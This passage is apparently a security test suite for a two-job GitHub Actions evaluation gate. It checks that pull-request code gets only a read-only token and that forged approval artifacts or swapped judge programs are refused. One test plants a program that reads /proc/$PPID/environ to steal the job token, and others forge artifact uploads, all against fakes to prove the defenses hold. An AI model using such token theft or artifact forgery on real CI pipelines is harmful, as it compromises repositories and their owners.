/**
 * The two-job recipe for pull requests (examples/workflows/measure.yml and verdict.yml): the
 * `pull_request` job runs the pull request's code with a read-only token, measures and uploads
 * its answers; the `workflow_run` job, from the default branch, grades them without a request and
 * is the only writer (comment, commit status, freeze). Run through the committed dist, against a real git
 * repository with a bare remote, a fake model server, the fake GitHub REST API (read-only tokens
 * refused on writes) and the fake Actions services behind @actions/artifact.
 */
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { startActionsServices, type ActionsServices } from '../fakes/actions-services.js';
import { startFakeGitHub, type FakeGitHub, type FakeReview } from '../fakes/github-server.js';
import { timestamp } from '../fakes/github-shapes.js';
import type { FakeServer } from '../fakes/model-server.js';
import { tempDir } from '../helpers.js';
import {
  actionFixtures,
  editConfig,
  git,
  JUDGE_FILES,
  judgedByCommand,
  pointAt,
  pullRequestPayload,
  pullRequestReviewPayload,
  runAction,
  workflowRunPayload,
  type ActionRun,
} from './action-harness.js';

const fx = actionFixtures();
const closers: { close(): Promise<void> }[] = [];
afterEach(async () => {
  await Promise.all(closers.splice(0).map((c) => c.close()));
});
type Workspace = Awaited<ReturnType<typeof fx.frozenAtA>>;

const WRITE = 'ghs_verdict_write';
const READ = 'ghs_measure_read';
const KEY = 'sk-vendor-test';
const STATUS = 'evalgate / generated';
const MEASURE_YML = '.github/workflows/measure.yml';
const VERDICT_YML = '.github/workflows/verdict.yml';

let nextRun = 6100;
const backend = (n: number) => `66666666-6666-4666-8666-${String(n).padStart(12, '0')}`;

/** The fakes of one test: the Actions services and GitHub serving their artifacts. */
async function services(): Promise<{ services: ActionsServices; gh: FakeGitHub }> {
  const actions = await startActionsServices();
  const gh = await startFakeGitHub({
    owner: 'octo',
    repo: 'repo',
    token: WRITE,
    readOnlyTokens: [READ],
    artifacts: actions,
  });
  // Closed after the test (the fake GitHub checks every call against GitHub's description).
  closers.push(gh, actions);
  return { services: actions, gh };
}

/**
 * Opens pull request 7: the branch `feature` (or, for a fork, only `refs/pull/7/head`, as GitHub
 * keeps a fork's head in the base repository) with `change` applied, checked out in the workspace.
 */
async function openPull(
  ws: Workspace,
  gh: FakeGitHub,
  change: (ws: Workspace) => Promise<void>,
  fork = false,
): Promise<string> {
  await git(ws.dir, 'checkout', '-q', '-b', 'feature');
  await change(ws);
  await git(ws.dir, 'add', '-A');
  await git(ws.dir, 'commit', '-q', '-m', 'the pull request');
  const head = await git(ws.dir, 'rev-parse', 'HEAD');
  await git(ws.dir, 'push', '-q', 'origin', fork ? `HEAD:refs/pull/${fx.PR}/head` : 'HEAD:feature');
  gh.state.pulls.push({
    number: fx.PR,
    head: {
      ref: 'feature',
      sha: head,
      repo: { full_name: fork ? 'someone/repo' : 'octo/repo', fork },
    },
    base: { ref: 'main', sha: ws.base, repo: { full_name: 'octo/repo' } },
    user: { login: 'author', type: 'User' },
    files: [],
  });
  return head;
}

interface Measured {
  job: ActionRun;
  runId: number;
  head: string;
  /** The event that started the measuring run. */
  event: string;
  /** Calls the fake GitHub got while the measuring job ran. */
  calls: FakeGitHub['calls'];
}

/** The measuring workflow's job: pull_request, mode measure, the read-only token. */
async function measure(
  ws: Workspace,
  fx2: { services: ActionsServices; gh: FakeGitHub },
  head: string,
  options: {
    fork?: boolean;
    actor?: string;
    label?: string;
    payloadPull?: number;
    payloadHead?: string;
    /** A fork's run gets no secrets. */
    secrets?: boolean;
    /** The run a review's submission starts (pull_request_review), by its reviewer. */
    review?: FakeReview;
    /** Run the committed bundle in a process of its own, as a runner starts it. */
    dist?: boolean;
  } = {},
): Promise<Measured> {
  const { services, gh } = fx2;
  const runId = nextRun++;
  const actor = options.review?.user.login ?? options.actor ?? 'author';
  const event = options.review ? 'pull_request_review' : 'pull_request';
  gh.state.runs.set(runId, {
    event,
    path: MEASURE_YML,
    triggering_actor: { login: actor, type: 'User' },
    head_sha: head,
    head_branch: 'feature',
    head_repository: {
      full_name: options.fork ? 'someone/repo' : 'octo/repo',
      fork: options.fork ?? false,
    },
    backend_id: backend(runId),
    // On the fake's clock: after every event before it (a label, a push), as GitHub creates it.
    created_at: timestamp(),
    // GitHub lists no pull request for a fork's run.
    pull_requests: options.fork
      ? []
      : [
          {
            number: fx.PR,
            head: { ref: 'feature', sha: head },
            base: { ref: 'main', sha: ws.base },
          },
        ],
  });
  const before = gh.calls.length;
  const review = options.review;
  const job = await runAction({
    workspace: ws.dir,
    event,
    payload: review
      ? pullRequestReviewPayload(fx.PR, ws.base, {
          headSha: head,
          action: 'submitted',
          review: {
            id: review.id,
            state: review.state,
            user: review.user,
            commitId: review.commit_id,
            body: review.body,
          },
        })
      : pullRequestPayload(options.payloadPull ?? fx.PR, ws.base, {
          headSha: options.payloadHead ?? head,
          ...(options.fork ? { fork: true } : {}),
          ...(options.label ? { label: options.label } : {}),
        }),
    inputs: fx.inputs(gh, { mode: 'measure', 'github-token': READ }),
    ...(options.dist && { dist: true }),
    env: {
      ...services.env({ runBackendId: backend(runId), jobBackendId: backend(runId + 50_000) }),
      GITHUB_API_URL: gh.url,
      GITHUB_SHA: head,
      GITHUB_RUN_ID: String(runId),
      GITHUB_WORKFLOW_REF: `octo/repo/${MEASURE_YML}@refs/pull/${fx.PR}/merge`,
      GITHUB_ACTOR: actor,
      GITHUB_TRIGGERING_ACTOR: actor,
      ...(options.secrets === false ? {} : { VENDOR_KEY: KEY }),
    },
  });
  // The run ends; the verdict workflow starts on its completion.
  const seeded = gh.state.runs.get(runId)!;
  gh.state.runs.set(runId, {
    ...seeded,
    status: 'completed',
    conclusion: job.code === 0 ? 'success' : 'failure',
  } as never);
  return { job, runId, head, event, calls: gh.calls.slice(before) };
}

/** The verdict workflow's job: workflow_run from the default branch, checked out at main. */
async function verdict(
  ws: Workspace,
  fx2: { services: ActionsServices; gh: FakeGitHub },
  measured: Measured,
  options: {
    fork?: boolean;
    listPull?: boolean;
    actor?: string;
    inputs?: Record<string, string>;
    env?: Record<string, string>;
    /** The workflow file the measuring run ran, as the event says (default the measuring one). */
    path?: string;
    /** Run the committed bundle in a process of its own, as a runner starts it. */
    dist?: boolean;
  } = {},
): Promise<ActionRun> {
  const { services, gh } = fx2;
  const main = await tempDir('evalgate-default-branch-');
  await git(main, 'clone', '-q', '--branch', 'main', ws.remote, '.');
  const sha = await git(main, 'rev-parse', 'HEAD');
  const runId = nextRun++;
  // The verdict run as the runs API shows it: a workflow_run run of the default branch's code.
  gh.state.runs.set(runId, {
    event: 'workflow_run',
    path: VERDICT_YML,
    triggering_actor: { login: options.actor ?? 'author', type: 'User' },
    head_sha: sha,
    head_branch: 'main',
    backend_id: backend(runId),
  });
  const result = await runAction({
    ...(options.dist && { dist: true }),
    workspace: main,
    event: 'workflow_run',
    payload: workflowRunPayload({
      runId: measured.runId,
      event: measured.event,
      path: options.path ?? MEASURE_YML,
      headSha: measured.head,
      fork: options.fork ?? false,
      actor: options.actor ?? 'author',
      conclusion: measured.job.code === 0 ? 'success' : 'failure',
      // GitHub lists no pull request for a fork's run.
      pullRequests:
        options.listPull === false || options.fork
          ? []
          : [{ number: fx.PR, headSha: measured.head, baseSha: ws.base }],
    }),
    inputs: fx.inputs(gh, {
      'github-token': WRITE,
      'measuring-workflow': MEASURE_YML,
      ...options.inputs,
    }),
    env: {
      ...services.env({ runBackendId: backend(runId), jobBackendId: backend(runId + 50_000) }),
      GITHUB_API_URL: gh.url,
      GITHUB_SHA: sha,
      GITHUB_RUN_ID: String(runId),
      GITHUB_WORKFLOW_REF: `octo/repo/${VERDICT_YML}@refs/heads/main`,
      ...options.env,
    },
  });
  Object.assign(gh.state.runs.get(runId)!, {
    status: 'completed',
    conclusion: result.code === 0 ? 'success' : 'failure',
  });
  return result;
}

function expectMeasured(measured: Measured, apiCalls: FakeGitHub['calls'] = []) {
  const { job } = measured;
  expect(job.code, job.stdout).toBe(0);
  expect(job.outputs.verdict).toBe('measured');
  expect(job.stdout).toContain(
    'evalgate: uploaded the answers as artifact evalgate-answers-generated',
  );
  expect(job.summary).toContain('### evalgate generated: measured, judged by the verdict job');
  // Not a single API call: the bar came from git, and nothing was written.
  expect(measured.calls).toEqual(apiCalls);
}

const statuses = (gh: FakeGitHub, sha: string) =>
  gh.state.statuses.filter((s) => s.sha === sha && s.context === STATUS);

/** A maintainer applies the freeze label: the measuring run it starts, measured. */
async function labelledByMaintainer(
  ws: Workspace,
  fakes: { services: ActionsServices; gh: FakeGitHub },
  head: string,
): Promise<Measured> {
  fakes.gh.state.permissions.set('maintainer', 'maintain');
  fakes.gh.applyLabel(fx.PR, 'evalgate:freeze', { login: 'maintainer', type: 'User' });
  const labelled = await measure(ws, fakes, head, {
    actor: 'maintainer',
    label: 'evalgate:freeze',
  });
  expectMeasured(labelled);
  return labelled;
}

/** Pull request 7 with build B (64 of 100) and `gate.max_drop` raised to 50: a bar change. */
async function openBarChange(ws: Workspace, gh: FakeGitHub) {
  const b = await fx.build('build-b', 64);
  const head = await openPull(ws, gh, async (w) => {
    await withBuild(w, b);
    await editConfig(w.config, (c) => (c.gate = { ...c.gate, max_drop: 50 }));
  });
  return { b, head };
}

/** A build `k` of 100 on the pull request's branch. */
async function withBuild(ws: Workspace, b: FakeServer) {
  await pointAt(ws.config, b);
}

/** What code in a run could upload: `record` as an artifact of the run with backend `id`. */
async function uploadAs(fakes: { services: ActionsServices }, runId: number, record: object) {
  const env = fakes.services.env({
    runBackendId: backend(runId),
    jobBackendId: backend(runId + 50_000),
  });
  for (const [key, value] of Object.entries(env)) vi.stubEnv(key, value);
  vi.stubEnv('GITHUB_SERVER_URL', 'https://github.localhost');
  const dir = await tempDir('evalgate-forged-');
  await writeFile(path.join(dir, 'approval.json'), JSON.stringify(record));
  try {
    const { DefaultArtifactClient } = await import('@actions/artifact');
    await new DefaultArtifactClient().uploadArtifact(
      `evalgate-approval-generated-pr${fx.PR}`,
      [path.join(dir, 'approval.json')],
      dir,
    );
  } finally {
    vi.unstubAllEnvs();
    vi.stubEnv('VENDOR_KEY', KEY);
  }
}

/** An approval record as earlier versions uploaded one, for a forgery. */
const forgedRecord = (runId: number, head: string) => ({
  v: 2,
  suite: 'generated',
  bar: 'f'.repeat(64),
  baselines: {},
  by: 'maintainer',
  pull: fx.PR,
  run_id: String(runId),
  run_attempt: 1,
  via: 'label',
  event_id: 1,
  head_sha: head,
  label_run: null,
});

describe('two jobs: pull-request code never shares a job with a writing token', () => {
  it('an honest build: measured with a read-only token, graded without a request, commented, status success', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 80);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    // Smoke tests of the committed bundle: both jobs as a runner starts them.
    const measured = await measure(ws, fakes, head, { dist: true });
    expectMeasured(measured);
    expect(b.requests).toHaveLength(100);
    const uploaded = fakes.services.artifacts();
    expect(uploaded.map((a) => [a.name, a.runBackendId])).toEqual([
      ['evalgate-answers-generated', backend(measured.runId)],
    ]);

    const judged = await verdict(ws, fakes, measured, { dist: true });
    expect(judged.code, judged.stdout).toBe(0);
    expect(judged.outputs.verdict).toBe('pass');
    expect(b.requests).toHaveLength(100); // not one request from the verdict job
    expect(judged.stdout).toContain(
      `evalgate: downloaded artifact evalgate-answers-generated (id ${uploaded[0]!.id}) of workflow run ${measured.runId}`,
    );
    const [comment] = fakes.gh.state.comments.get(fx.PR)!;
    expect(comment!.body).toContain('<!-- evalgate:comment suite=generated -->');
    expect(comment!.body).toContain(
      `_Graded by the verdict job from the answers of the measuring run ${measured.runId} ([log](`,
    );
    expect(comment!.body).toContain(
      "artifact `evalgate-answers-generated`: this job sent no request and ran none of the pull request's code._",
    );
    expect(statuses(fakes.gh, head)).toEqual([
      expect.objectContaining({ state: 'success', description: expect.stringMatching(/^pass/) }),
    ]);
  }, 120_000);

  it('a worse build: regressed, the status fails', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 64);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    const measured = await measure(ws, fakes, head);
    expectMeasured(measured);
    const asked = b.requests.length;
    const judged = await verdict(ws, fakes, measured);
    expect(judged.code).toBe(1);
    expect(judged.outputs.verdict).toBe('regressed');
    expect(b.requests.length).toBe(asked);
    expect(fakes.gh.state.comments.get(fx.PR)![0]!.body).toContain('16 right → wrong');
    expect(statuses(fakes.gh, head)).toEqual([
      expect.objectContaining({
        state: 'failure',
        description: expect.stringMatching(/^regressed/),
      }),
    ]);
  }, 120_000);

  it('a head that raises gate.max_drop to 100: bar-changed, the status fails', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 64);
    const head = await openPull(ws, fakes.gh, async (w) => {
      await withBuild(w, b);
      await editConfig(w.config, (c) => (c.gate = { ...c.gate, max_drop: 100 }));
    });
    const measured = await measure(ws, fakes, head);
    expectMeasured(measured);
    const judged = await verdict(ws, fakes, measured);
    expect(judged.code).toBe(1);
    expect(judged.outputs.verdict).toBe('bar-changed');
    const [comment] = fakes.gh.state.comments.get(fx.PR)!;
    expect(comment!.body).toContain('gate.max_drop');
    expect(statuses(fakes.gh, head)).toEqual([
      expect.objectContaining({
        state: 'failure',
        description:
          "bar-changed: the pull request changes the bar without an approving review (graded from the measuring run's answers)",
      }),
    ]);
  }, 120_000);

  it("a fork's pull request (no pull_requests in the payload) is found by head repository, branch and sha", async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 80);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b), true);
    const measured = await measure(ws, fakes, head, { fork: true });
    expectMeasured(measured);
    const judged = await verdict(ws, fakes, measured, { fork: true });
    expect(judged.code, judged.stdout).toBe(0);
    expect(judged.outputs.verdict).toBe('pass');
    const lookup = fakes.gh.calls.find((c) => c.method === 'GET' && c.path.endsWith('/pulls'));
    expect(lookup?.query).toMatchObject({ head: 'someone:feature', state: 'open' });
    expect(statuses(fakes.gh, head)).toEqual([expect.objectContaining({ state: 'success' })]);
  }, 120_000);

  it("a fork's run without secrets measures nothing: the verdict job skips an unchanged bar without a status and fails a changed one", async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 40);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b), true);
    const measured = await measure(ws, fakes, head, { fork: true, secrets: false });
    expectMeasured(measured);
    expect(b.requests).toHaveLength(0);
    expect(measured.job.summary).toContain('_Nothing was measured: VENDOR_KEY not set');
    const skipped = await verdict(ws, fakes, measured, { fork: true });
    expect(skipped.code, skipped.stdout).toBe(0);
    expect(skipped.outputs.verdict).toBe('skipped');
    // The skip graded nothing: no status at all, never success.
    expect(statuses(fakes.gh, head)).toEqual([]);

    // The same fork raising gate.max_drop: the change alone fails, secrets or not.
    await editConfig(ws.config, (c) => (c.gate = { ...c.gate, max_drop: 100 }));
    await git(ws.dir, 'commit', '-qam', 'raise the bar');
    const raised = await git(ws.dir, 'rev-parse', 'HEAD');
    await git(ws.dir, 'push', '-q', 'origin', `HEAD:refs/pull/${fx.PR}/head`, '--force');
    fakes.gh.state.pulls[0]!.head.sha = raised;
    const again = await measure(ws, fakes, raised, { fork: true, secrets: false });
    expectMeasured(again);
    // The fork's own workflow uploads an approval record as earlier versions read them: nothing.
    await uploadAs(fakes, again.runId, forgedRecord(again.runId, raised));
    const failed = await verdict(ws, fakes, again, { fork: true });
    expect(failed.code).toBe(1);
    expect(failed.outputs.verdict).toBe('bar-changed');
    expect(statuses(fakes.gh, raised)).toEqual([expect.objectContaining({ state: 'failure' })]);
  }, 120_000);

  it('answers whose manifest names another pull request or head commit are refused: nothing graded, the status errors', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 80);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    for (const [forged, names] of [
      [{ payloadPull: 8 }, 'the manifest names pull request #8, not #7'],
      [{ payloadHead: 'e'.repeat(40) }, 'the manifest names head commit eeeeeeeeeeee, not'],
    ] as const) {
      const measured = await measure(ws, fakes, head, forged);
      expectMeasured(measured);
      const judged = await verdict(ws, fakes, measured);
      expect(judged.code).toBe(1);
      expect(judged.stdout).toContain(
        `the artifact evalgate-answers-generated of workflow run ${measured.runId} is not this pull request's answers: ${names}`,
      );
      expect(fakes.gh.state.comments.get(fx.PR) ?? []).toEqual([]);
    }
    const errors = statuses(fakes.gh, head);
    expect(errors.map((s) => s.state)).toEqual(['error', 'error']);
    expect(errors[0]!.description).toMatch(
      /^cannot judge: the artifact evalgate-answers-generated/,
    );
  }, 180_000);

  it('a push after the measuring run: the verdict refuses and writes nothing, a newer run judges', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 80);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    const measured = await measure(ws, fakes, head);
    expectMeasured(measured);
    fakes.gh.state.pulls[0]!.head.sha = 'f'.repeat(40);
    const judged = await verdict(ws, fakes, measured, { listPull: false });
    expect(judged.code).toBe(1);
    expect(judged.stdout).toContain(
      `no open pull request has the measured commit ${head.slice(0, 12)} as its head`,
    );
    const listed = await verdict(ws, fakes, measured);
    expect(listed.code).toBe(1);
    expect(listed.stdout).toContain(
      `pull request #7 has moved on to ffffffffffff since workflow run ${measured.runId} measured ${head.slice(0, 12)}; a newer run will judge it`,
    );
    expect(fakes.gh.calls.filter((c) => c.method !== 'GET')).toEqual([]);
  }, 120_000);

  it('a base that moved to a new protocol since the measuring run: the answers are refused, not graded as errors', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 80);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    const measured = await measure(ws, fakes, head);
    expectMeasured(measured);
    // Meanwhile main changes its template (and re-freezes nothing): the bar in force moved.
    const moved = await tempDir('evalgate-main-');
    await git(moved, 'clone', '-q', '--branch', 'main', ws.remote, '.');
    await editConfig(path.join(moved, 'evalgate.yml'), (c) => {
      c.harness.template = `Think.\n${c.harness.template}`;
    });
    await git(moved, 'commit', '-qam', 'a new template on main');
    await git(moved, 'push', '-q', 'origin', 'HEAD:main');
    fakes.gh.state.pulls[0]!.base.sha = await git(moved, 'rev-parse', 'HEAD');
    const judged = await verdict(ws, fakes, measured);
    expect(judged.code).toBe(1);
    expect(judged.stdout).toContain(`the measuring run ${measured.runId} measured under protocol`);
    expect(judged.stdout).toContain('re-run the measuring workflow');
    expect(fakes.gh.state.comments.get(fx.PR) ?? []).toEqual([]);
    expect(statuses(fakes.gh, head)).toEqual([expect.objectContaining({ state: 'error' })]);
  }, 120_000);

  it("the freeze label's measuring run: the verdict job freezes from its answers and pushes the baselines, status failure until a review names them; then a push that changes nothing passes", async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const { gh } = fakes;
    gh.state.gitDir = ws.remote;
    const { b, head } = await openBarChange(ws, gh);
    const blocked = await verdict(ws, fakes, await measure(ws, fakes, head));
    expect(blocked.outputs.verdict).toBe('bar-changed');

    const labelled = await labelledByMaintainer(ws, fakes, head);
    const asked = b.requests.length;
    const frozen = await verdict(ws, fakes, labelled, { actor: 'maintainer' });
    expect(frozen.code, frozen.stdout).toBe(0);
    expect(frozen.outputs.verdict).toBe('frozen');
    expect(b.requests.length).toBe(asked); // frozen from the artifact, not measured again
    const tip = await git(ws.remote, 'rev-parse', 'feature');
    expect(await git(ws.remote, 'rev-parse', `${tip}^`)).toBe(head);
    const baseline = JSON.parse(
      await git(ws.remote, 'show', `${tip}:.evalgate/baselines/generated/vendor/model.json`),
    );
    expect(baseline.aggregates.score).toBe(64);
    expect(gh.state.labels.get(fx.PR) ?? []).not.toContain('evalgate:freeze');
    // No approval record: the label approves nothing, and the status says so.
    expect(fakes.services.artifacts().some((a) => a.name.startsWith('evalgate-approval-'))).toBe(
      false,
    );
    expect(statuses(gh, tip)).toEqual([
      expect.objectContaining({
        state: 'failure',
        description: expect.stringContaining('bar-changed: awaiting an approving review'),
      }),
    ]);
    const comment = gh.state.comments.get(fx.PR)!.find((c) => c.body.includes('evalgate:freeze'))!;
    const line = /evalgate approve [0-9a-f]{12}/.exec(comment.body)![0];

    // The maintainer approves the freeze commit by review: the review's measuring run, judged by
    // the verdict job, turns the freeze commit's status green.
    gh.state.pulls[0]!.head.sha = tip;
    const approval = gh.submitReview(fx.PR, {
      user: { login: 'maintainer', type: 'User' },
      state: 'APPROVED',
      body: line,
      commitId: tip,
    });
    const reviewed = await measure(ws, fakes, tip, { review: approval });
    expectMeasured(reviewed);
    const approved = await verdict(ws, fakes, reviewed, { actor: 'maintainer' });
    expect(approved.code, approved.stdout).toBe(0);
    expect(approved.outputs.verdict).toBe('pass');
    expect(statuses(gh, tip).at(-1)).toMatchObject({ state: 'success' });

    // The author's next push changes no part of the bar: measured under the base's bar, graded
    // under the approved one.
    await git(ws.dir, 'fetch', '-q', 'origin', 'feature');
    await git(ws.dir, 'checkout', '-q', '--force', '-B', 'feature', 'FETCH_HEAD');
    await git(ws.dir, 'commit', '-q', '--allow-empty', '-m', 'next push');
    await git(ws.dir, 'push', '-q', 'origin', 'HEAD:feature');
    const next = await git(ws.dir, 'rev-parse', 'HEAD');
    gh.state.pulls[0]!.head.sha = next;
    const after = await verdict(ws, fakes, await measure(ws, fakes, next));
    expect(after.code, after.stdout).toBe(0);
    expect(after.outputs.verdict).toBe('pass');
    expect(after.summary).toContain(
      `approved by maintainer's approving review of ${tip.slice(0, 12)}`,
    );
    expect(statuses(gh, next)).toEqual([expect.objectContaining({ state: 'success' })]);
  }, 180_000);

  it("the two-job label window: after the label's run was refused for a moved-on head, a maintainer's later push is not the label's run and freezes nothing", async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const { gh } = fakes;
    const { head } = await openBarChange(ws, gh);
    await verdict(ws, fakes, await measure(ws, fakes, head));
    const labelled = await labelledByMaintainer(ws, fakes, head);
    // The author pushes max_drop 100 before the label's verdict runs: that verdict refuses.
    await editConfig(ws.config, (c) => (c.gate = { ...c.gate, max_drop: 100 }));
    await git(ws.dir, 'commit', '-qam', 'max_drop 100');
    await git(ws.dir, 'push', '-q', 'origin', 'HEAD:feature');
    const moved = await git(ws.dir, 'rev-parse', 'HEAD');
    gh.state.pulls[0]!.head.sha = moved;
    const refused = await verdict(ws, fakes, labelled, { actor: 'maintainer' });
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain('has moved on to');
    await measure(ws, fakes, moved);
    // Minutes later the maintainer commits a review suggestion (their push, their run).
    await writeFile(path.join(ws.dir, 'NOTES.md'), 'suggested\n');
    await git(ws.dir, 'add', '-A');
    await git(ws.dir, 'commit', '-qm', 'Apply suggestion');
    await git(ws.dir, 'push', '-q', 'origin', 'HEAD:feature');
    const suggestion = await git(ws.dir, 'rev-parse', 'HEAD');
    gh.state.pulls[0]!.head.sha = suggestion;
    const pushedByMaintainer = await measure(ws, fakes, suggestion, { actor: 'maintainer' });
    const judged = await verdict(ws, fakes, pushedByMaintainer, { actor: 'maintainer' });
    expect(judged.code, judged.stdout + judged.summary).toBe(1);
    expect(judged.outputs.verdict).toBe('bar-changed');
    expect(judged.summary).toContain(
      `and the pull request's head when maintainer applied the "evalgate:freeze" label was ${head.slice(0, 12)}`,
    );
    expect(await git(ws.remote, 'rev-parse', 'feature')).toBe(suggestion);
  }, 180_000);

  it('the verdict job refuses answers from a run of another workflow file of the same name', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 40);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    const forged = await measure(ws, fakes, head);
    const judged = await verdict(ws, fakes, forged, { path: '.github/workflows/forge.yml' });
    expect(judged.code).toBe(1);
    expect(judged.stdout).toContain(
      `workflow run ${forged.runId} ran .github/workflows/forge.yml, not the measuring workflow ${MEASURE_YML}`,
    );
    expect(statuses(fakes.gh, head)).toEqual([]);
    expect(fakes.gh.state.comments.get(fx.PR) ?? []).toEqual([]);
    // Without the input, nothing is graded either.
    const unnamed = await verdict(ws, fakes, forged, { inputs: { 'measuring-workflow': '' } });
    expect(unnamed.code).toBe(1);
    expect(unnamed.stdout).toContain('input "measuring-workflow": the verdict job needs the path');
  }, 120_000);

  it('a command slot in the measuring job that reads /proc/$PPID/environ finds only a read-only token; its write is refused; the verdict job never runs it', async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const b = await fx.build('build-b', 80);
    const loot = path.join(await tempDir('evalgate-loot-'), 'loot.jsonl');
    const head = await openPull(ws, fakes.gh, async (w) => {
      await withBuild(w, b);
      // The pull request's own "model": a program that steals the job token from its parent.
      await writeFile(path.join(w.dir, 'steal.mjs'), STEAL);
      await editConfig(w.config, (c) =>
        c.models.push({
          id: 'local/thief',
          provider: 'command',
          command: [process.execPath, 'steal.mjs', loot],
        }),
      );
    });
    // The bundle in its own process, as a runner starts it: the thief reads that process's environment.
    const measured = await measure(ws, fakes, head, { dist: true });
    // The Action made no call; the one call is the thief's, with the only token it found.
    const [theft] = measured.calls;
    expect(theft).toMatchObject({
      method: 'POST',
      path: '/repos/octo/repo/issues/7/comments',
      headers: { authorization: `token ${READ}` },
    });
    expectMeasured(measured, [theft!]);
    const stolen = (await readFile(loot, 'utf8'))
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l));
    expect(stolen.length).toBe(100); // one per item: the measuring job ran it
    const tried = stolen.find((s) => s.status !== undefined)!;
    expect(tried.tokens).toEqual([READ]);
    expect(tried.status).toBe(403);
    expect(fakes.gh.state.comments.get(fx.PR) ?? []).toEqual([]);

    const judged = await verdict(ws, fakes, measured);
    expect(judged.code, judged.stdout).toBe(0);
    expect((await readFile(loot, 'utf8')).split('\n').filter(Boolean)).toHaveLength(100);
    const [comment] = fakes.gh.state.comments.get(fx.PR)!;
    expect(comment!.body).toContain('local/thief');
    expect(statuses(fakes.gh, head)).toEqual([expect.objectContaining({ state: 'success' })]);
  }, 180_000);
});

describe('two jobs: records approve nothing', () => {
  it("records the label's measuring run or a forge.yml's label run upload approve nothing", async () => {
    const ws = await fx.frozenAtA();
    const fakes = await services();
    const { gh } = fakes;
    const { head } = await openBarChange(ws, gh);
    gh.state.permissions.set('maintainer', 'maintain');
    gh.applyLabel(fx.PR, 'evalgate:freeze', { login: 'maintainer', type: 'User' });
    gh.state.labels.set(fx.PR, []); // the forgery needs no freeze
    const labelled = await measure(ws, fakes, head, {
      actor: 'maintainer',
      label: 'evalgate:freeze',
    });
    expectMeasured(labelled);
    const record = (runId: number) => forgedRecord(runId, head);
    await uploadAs(fakes, labelled.runId, record(labelled.runId));
    const forge = nextRun++;
    gh.state.runs.set(forge, {
      event: 'pull_request',
      path: '.github/workflows/forge.yml',
      triggering_actor: { login: 'maintainer', type: 'User' },
      head_sha: head,
      head_branch: 'feature',
      status: 'completed',
      conclusion: 'success',
      backend_id: backend(forge),
    });
    await uploadAs(fakes, forge, record(forge));
    const judged = await verdict(ws, fakes, await measure(ws, fakes, head));
    expect(judged.code).toBe(1);
    expect(judged.outputs.verdict).toBe('bar-changed');
    expect(judged.summary).toContain('no review approves these changes');
    expect(gh.calls.some((c) => c.path.includes('/actions/artifacts?name=evalgate-approval'))).toBe(
      false,
    );
    expect(statuses(gh, head).at(-1)).toMatchObject({ state: 'failure' });
  }, 180_000);
});

describe('two jobs with a command judge: the verdict job runs the judge only from the base', () => {
  const folders = async (log: string) => [
    ...new Set((await readFile(log, 'utf8').catch(() => '')).split('\n').filter(Boolean)),
  ];

  it("an unchanged judge grades in the verdict job from the base commit's files", async () => {
    const ws = await fx.frozenAtA(judgedByCommand, JUDGE_FILES);
    const fakes = await services();
    const log = path.join(await tempDir('evalgate-judge-log-'), 'calls');
    const b = await fx.build('build-b', 80);
    const head = await openPull(ws, fakes.gh, (w) => withBuild(w, b));
    const measured = await measure(ws, fakes, head);
    expectMeasured(measured);
    const judged = await verdict(ws, fakes, measured, { env: { JUDGE_LOG: log } });
    expect(judged.code, judged.stdout).toBe(0);
    expect(judged.outputs.verdict).toBe('pass');
    const ran = await folders(log);
    expect(ran).toHaveLength(1);
    expect(ran[0]).toContain('evalgate-base-');
    expect(statuses(fakes.gh, head)).toEqual([expect.objectContaining({ state: 'success' })]);
  }, 180_000);

  it("a head that changes the judge's program, labelled by a maintainer: the verdict job refuses to run it; nothing is frozen or pushed", async () => {
    const ws = await fx.frozenAtA(judgedByCommand, JUDGE_FILES);
    const fakes = await services();
    const { gh } = fakes;
    const log = path.join(await tempDir('evalgate-judge-log-'), 'calls');
    const b = await fx.build('build-b', 64);
    const head = await openPull(ws, gh, async (w) => {
      await withBuild(w, b);
      // The judge's new program could read the verdict job's token from its parent.
      await writeFile(
        path.join(w.dir, 'judge.mjs'),
        JUDGE_FILES['judge.mjs'].replace("'VERDICT: incorrect'", "'VERDICT: correct'"),
        { mode: 0o755 },
      );
    });
    const blocked = await verdict(ws, fakes, await measure(ws, fakes, head), {
      env: { JUDGE_LOG: log },
    });
    expect(blocked.code).toBe(1);
    expect(blocked.outputs.verdict).toBe('bar-changed');
    expect(blocked.summary).toContain('judge file judge.mjs');

    const labelled = await labelledByMaintainer(ws, fakes, head);
    const refused = await verdict(ws, fakes, labelled, {
      actor: 'maintainer',
      env: { JUDGE_LOG: log },
    });
    expect(refused.code).toBe(1);
    expect(refused.stdout).toContain(
      `the judge "judge" runs a command whose program comes from the pull request's head (the head changes the judge), and this job holds a token that writes (workflow_run), so it runs none of the pull request's code. Nothing was frozen`,
    );
    expect(await git(ws.remote, 'rev-parse', 'feature')).toBe(head);
    expect(fakes.services.artifacts().some((a) => a.name.startsWith('evalgate-approval-'))).toBe(
      false,
    );
